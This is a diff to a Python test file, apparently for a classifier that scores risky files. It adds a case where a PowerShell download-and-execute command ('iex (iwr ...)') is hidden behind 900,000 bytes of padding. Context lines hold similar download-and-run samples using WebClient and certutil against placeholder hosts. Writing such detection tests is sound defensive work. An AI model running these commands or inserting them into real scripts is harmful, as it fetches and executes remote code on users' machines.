@@ -233,6 +233,7 @@ def test_the_link_in_a_shortcut_can_be_judged_like_any_link() -> None:
         ("a.ps1", b"iex (New-Object Net.WebClient).DownloadString('http://x')", 6),
         ("a.ps1", "iex (iwr https://x.example)".encode("utf-16"), 6),
         ("a.bat", b"@echo off\r\ndir\r\n", 5),
+        ("a.ps1", b"#" * 900_000 + b"\niex (iwr https://x.example)", 6),
         ("a.bat", b"certutil -urlcache -f http://x a.exe & start /b a.exe", 6),
         ("a.hta", b"<script>x</script>", 6),
         ("a.py", b"print('hello')", 3),
